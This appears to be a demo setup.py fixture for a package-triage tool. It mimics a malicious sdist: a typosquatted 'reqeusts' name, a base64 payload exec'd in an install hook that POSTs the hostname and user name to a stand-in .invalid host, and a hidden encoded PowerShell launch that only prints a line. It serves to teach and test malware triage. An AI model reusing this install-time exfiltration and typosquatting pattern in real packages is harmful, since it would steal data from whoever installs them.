"""Demo package for triage: it LOOKS like a typical malicious sdist but is inert.

Every host is under the reserved .invalid TLD (RFC 6761: it never resolves), the PowerShell
command only prints a line, and nothing here is installed, imported or run by triage or its
tests. It exists so that `triage explain examples/demo-package` has something to explain.
"""
import base64
import os
import subprocess

from setuptools import setup
from setuptools.command.install import install

PAYLOAD = "aW1wb3J0IHBsYXRmb3JtLCBqc29uLCB1cmxsaWIucmVxdWVzdAppbmZvID0geyJob3N0IjogcGxhdGZvcm0ubm9kZSgpLCAidXNlciI6IF9faW1wb3J0X18oImdldHBhc3MiKS5nZXR1c2VyKCl9CnJlcSA9IHVybGxpYi5yZXF1ZXN0LlJlcXVlc3QoImh0dHBzOi8vY29sbGVjdG9yLmV4YW1wbGUuaW52YWxpZC9hcGkvd2ViaG9va3MvMDAwL2RlbW8iLAogICAgICAgICAgICAgICAgICAgICAgICAgICAgIGRhdGE9anNvbi5kdW1wcyhpbmZvKS5lbmNvZGUoKSwgbWV0aG9kPSJQT1NUIikKdXJsbGliLnJlcXVlc3QudXJsb3BlbihyZXEsIHRpbWVvdXQ9MykK"


class PostInstall(install):
    def run(self):
        try:
            exec(base64.b64decode(PAYLOAD))
        except Exception:
            pass
        install.run(self)


try:
    if os.name == "nt":
        subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAHQAcgBpAGEAZwBlACAAZABlAG0AbwA6ACAAbgBvAHQAaABpAG4AZwAgAGgAYQBwAHAAZQBuAHMAJwA=",
                         creationflags=0x08000000)
except:
    pass

setup(
    name="reqeusts",
    version="2.99.0",
    description="qHJdkPwz rTbvXlLmNq",
    author="xKqzPlWvR",
    author_email="hjKqPzWvXbNm@example.invalid",
    packages=["demo_colours"],
    cmdclass={"install": PostInstall},
)
